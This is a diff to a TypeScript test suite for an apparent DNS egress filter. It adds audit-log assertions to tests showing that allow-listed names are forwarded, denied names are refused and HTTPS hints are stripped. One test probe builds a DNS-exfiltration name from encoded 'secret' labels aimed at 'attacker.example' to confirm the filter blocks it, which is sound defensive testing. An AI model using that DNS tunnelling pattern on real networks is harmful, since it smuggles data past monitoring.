@@ -1,7 +1,7 @@
-import { assertEquals } from "@std/assert";
+import { assertEquals, assertMatch } from "@std/assert";
 import { requires } from "../support/requirements.ts";
 import { Internet, INTERNET_NEEDS, OTHER_RESOLVER, RESOLVER, ZONE } from "./internet.ts";
-import { probe } from "./names_support.ts";
+import { auditColumn, probe } from "./names_support.ts";
 
 const { ignore, reason } = requires(...INTERNET_NEEDS, "python3");
 
@@ -22,7 +22,7 @@ async function asked(internet: Internet): Promise<string[]> {
 }
 
 test("sends on only queries for names of its list, so that no query carries anything out", async (internet) => {
-  const { answers } = await probe(
+  const { answers, audit } = await probe(
     internet,
     ["--allow", "registry.example:443"],
     `secret = "c2VjcmV0." * 5 + "attacker.example"
@@ -49,6 +49,9 @@ test("sends on only queries for names of its list, so that no query carries anyt
   ]);
   const questions = await asked(internet);
   assertEquals(questions.toSorted(), ["48 example (udp)", "A registry.example (tcp)", "AAAA registry.example (udp)"]);
+  const refused = audit.filter(({ event, decision }) => event === "dns" && decision === "refused");
+  assertEquals(refused.length >= 20, true);
+  assertEquals(auditColumn(audit, "dns", "decision", "name").includes("forwarded registry.example"), true);
 });
 
 test("opens no other server of DNS, over UDP, TCP or TLS", async (internet) => {
@@ -73,7 +76,7 @@ test("reads nothing inside TLS to an allowed name: DNS over HTTPS there tells na
 });
 
 test("refuses an answer that leads through a name that is denied", async (internet) => {
-  const { answers } = await probe(
+  const { answers, audit } = await probe(
     internet,
     ["--allow", "tenant-a.example:443", "--deny", "cdn.example"],
     `for kind in (1, 28):
@@ -81,6 +84,7 @@ test("refuses an answer that leads through a name that is denied", async (intern
     print(raw("93.184.216.20", 443, b"x"))`,
   );
   assertEquals(answers, ["NXDOMAIN EDE 15 NXDOMAIN EDE 15", "NXDOMAIN EDE 15 NXDOMAIN EDE 15", "refused"]);
+  assertMatch(auditColumn(audit, "dns", "decision", "rule").join(), /refused deny cdn\.example/);
 });
 
 test("binds what comes over TCP after a truncated answer, and names on the way may be asked", async (internet) => {
@@ -112,7 +116,7 @@ test("takes ech and address hints out of HTTPS answers", async (internet) => {
   const hints = "0001" + "00" + "000100030268" + "32" + "000400045db8d828" + "00050004fe0d0000" +
     "0006001026062800022000010000000000000040";
   await internet.zone({ ...ZONE, "registry.example": { ...ZONE["registry.example"], data: { 65: [hints] } } });
-  const { answers } = await probe(
+  const { answers, audit } = await probe(
     internet,
     ["--allow", "registry.example:443"],
     `print(dns("registry.example", 65), dns("registry.example", 65, tcp=True))
@@ -120,4 +124,5 @@ test("takes ech and address hints out of HTTPS answers", async (internet) => {
   );
   const kept = "NOERROR 000100000100030268" + "32";
   assertEquals(answers, [`${kept} ${kept}`, "refused"]);
+  assertEquals(auditColumn(audit, "dns", "removed")[0]!.split(",").toSorted(), ["ech", "ipv4hint", "ipv6hint"]);
 });
